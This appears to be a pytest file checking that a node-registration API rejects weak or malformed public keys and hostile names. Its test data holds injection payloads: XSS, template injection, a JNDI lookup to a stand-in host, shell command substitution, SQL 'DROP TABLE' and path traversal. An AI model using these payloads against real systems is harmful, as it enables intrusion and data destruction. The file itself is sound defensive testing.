"""Names and keys that a node or its administrator may not have: weak, hidden, or pretending to be code."""

from __future__ import annotations

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa

from schemas import base64url
from tests.attacks.catalogue import attack, of_response
from tests.fakes import site as sites
from tests.fakes.did import signer as signer_for
from tests.fakes.issuer import node_signer
from tests.fakes.site import JSON, bearer
from tests.issuer import conftest as running

furnished, site_postgres, site_url = running.furnished, running.site_postgres, running.site_url
site, any_site = running.site, running.any_site

NODES = "/api/v1/nodes"

_MALFORMED = "docs/api.md: a value outside its form is malformed, 400; 422 is for values that are well formed"


@pytest.fixture
async def open_patient_site(site_url):
    """A service that does not count what it refuses."""
    built = sites.build(sites.site_settings(site_url, refused_rate_per_minute=1_000_000))
    async with built.client:
        yield built


def _rsa(bits, exponent=65537):
    numbers = rsa.generate_private_key(exponent, bits).public_key().public_numbers()
    return {
        "kty": "RSA",
        "n": base64url.encode(numbers.n.to_bytes(bits // 8, "big")),
        "e": base64url.encode(numbers.e.to_bytes(3, "big").lstrip(b"\0")),
    }


def _okp(point):
    return {"kty": "OKP", "crv": "Ed25519", "x": base64url.encode(point)}


# The eight points of small order of edwards25519, encoded.
_SMALL_ORDER = tuple(
    bytes.fromhex(point)
    for point in (
        "0100000000000000000000000000000000000000000000000000000000000000",
        "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f",
        "0000000000000000000000000000000000000000000000000000000000000080",
        "0000000000000000000000000000000000000000000000000000000000000000",
        "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a",
        "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa",
        "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05",
        "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc85",
    )
)


@attack("IT028", "reject:enrol 422")
async def test_no_weak_key_is_registered_or_enrolled(expected, open_patient_site):
    good = {**node_signer(20).public_key.jwk}
    strong = _rsa(2048)
    weak = [
        _rsa(1024),
        strong | {"e": "AQ"},
        strong | {"e": "Ag"},
        strong | {"n": base64url.encode(b"\xff" * 255 + b"\xfe")},
        *map(_okp, _SMALL_ORDER),
        _okp(b"\xff" * 32),
        _okp(bytes(31)),
        good | {"y": good["x"]},
        good | {"x": base64url.encode(bytes(32)), "y": base64url.encode(bytes(32))},
        good | {"crv": "secp256k1"},
        good | {"crv": "P-521"},
        {**signer_for("ES384", 5).public_key.jwk},
        {"kty": "oct", "k": base64url.encode(b"k" * 32)},
        good | {"d": base64url.encode(b"\1" * 32)},
        good | {"alg": "none"},
        {"kty": "EC"},
        {},
    ]
    details = {"node_id": "node-20", "tenant_id": "acme", "grid_region": "DEU", "tdp_w": 700}
    for jwk in weak:
        answer = await open_patient_site.post(NODES, details | {"jwk": jwk}, bearer("all", "admin"))
        assert of_response(answer).problem == "422 ENROLMENT_REFUSED", (jwk, answer.text)
        request = {"token": "gci_" + "A" * 43, "jwk": jwk, "signature": base64url.encode(bytes(64))}
        answer = await open_patient_site.post(NODES + "/enrol", request)
        assert of_response(answer).problem == "422 ENROLMENT_REFUSED", (jwk, answer.text)
    assert (await open_patient_site.post(NODES, details | {"jwk": good}, bearer("all", "admin"))).status_code == 201
    expected.held()


_NAMES = (
    *("<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/x}", "`id`", "a\\b", 'a"b', "a|b"),
    *("m" * 257, "m" * 10_000, "m\u202etxt", "m\u2066x", "m\u200bx", "m\u00adx", "\ufeffm", "m\u2028x", "m\u0000"),
    *("m\x1b[2J", "m\r\nx", "m\tx", "m\x7f", "m\u0085x", "m\u00a0x", "m\u3000x", "m\U000e0041", "m\ufe0f", "m\u3164"),
    *("m\u034fx", "m\u2800x", "m\ue000", "m\uffff", "m\ufdd0", " m", "m ", "m  x", "", " ", "mode\u0301l"),
    *("\u0301m", "m\u115fx", "m\uffa0", "m\u180e", "m\u17b4"),
)


@attack("IT032", "reject:400", differs=_MALFORMED, heavy="some seventy records")
async def test_a_model_id_shows_every_character_and_is_no_markup(expected, open_patient_site):
    site = open_patient_site
    expected.met_by(*[of_response(await site.telemetry(model_id=name)) for name in _NAMES])
    answer = await site.telemetry(inference_id="\u212anode")
    expected.met_by(of_response(answer))
    # Clients take these out of every path, so nobody could ask for them again.
    expected.met_by(*[of_response(await site.telemetry(inference_id=name)) for name in (".", "..")])
    for number, name in enumerate(
        ("meta-llama/Llama-3.1 70B", "文心一言", "=1+1", "Ünïcødé (v2) [q4]", "#1 & co; 'x'")
    ):
        assert (await site.telemetry(model_id=name, inference_id=f"i-{number}")).status_code == 201, name


@attack("IT033", "reject:422")
async def test_a_region_a_tenant_or_a_node_that_is_no_name_is_refused(expected, open_patient_site):
    site = open_patient_site
    good = {"node_id": "node-20", "tenant_id": "acme", "grid_region": "DEU", "tdp_w": 700}
    good |= {"jwk": {**node_signer(20).public_key.jwk}}
    hostile = (
        "DE'; DROP TABLE node; --",
        "DE;",
        "DE%00",
        "../DE",
        "..",
        "DE/../../etc",
        "DE\u200b",
        "\u202eED",
        "*",
        "",
    )
    for name in ("grid_region", "tenant_id", "node_id"):
        expected.met_by(
            *[of_response(await site.post(NODES, good | {name: text}, bearer("all", "admin"))) for text in hostile]
        )
    for name in ("accelerator_model", "pue_source"):
        texts = {"pue": "1.2", "pue_kind": "reported"}
        for text in ("H100\u202e", "H100\u200b", " H100", "H\u00a0100", "x" * 257):
            answer = await site.post(NODES, good | texts | {name: text}, bearer("all", "admin"))
            expected.met_by(of_response(answer))
    # NUL is refused by the gate on bytes, before any member is looked at.
    for name in ("grid_region", "tenant_id", "node_id"):
        answer = await site.post(NODES, good | {name: "DE\0"}, bearer("all", "admin"))
        assert of_response(answer).problem == "400 MALFORMED_VALUE_ERROR"
    assert (await site.client.post(NODES, json=good, headers=JSON | bearer("all", "admin"))).status_code == 201


async def test_who_may_register_for_all_is_told_of_a_missing_tenant_and_a_tenant_s_own_key_is_not(site):
    good = {"node_id": "node-20", "tenant_id": "nobody", "grid_region": "DEU", "tdp_w": 700}
    good |= {"jwk": {**node_signer(20).public_key.jwk}}
    answer = await site.post(NODES, good, bearer("all", "admin"))
    assert of_response(answer).problem == "404 NOT_FOUND"
    assert "there is no tenant 'nobody'" in answer.json()["detail"]
    details = {
        (await site.post(NODES, good | {"tenant_id": name}, bearer("acme", "admin"))).json()["detail"]
        for name in ("nobody", "umbra")
    }
    assert details == {"the API key belongs to another tenant"}
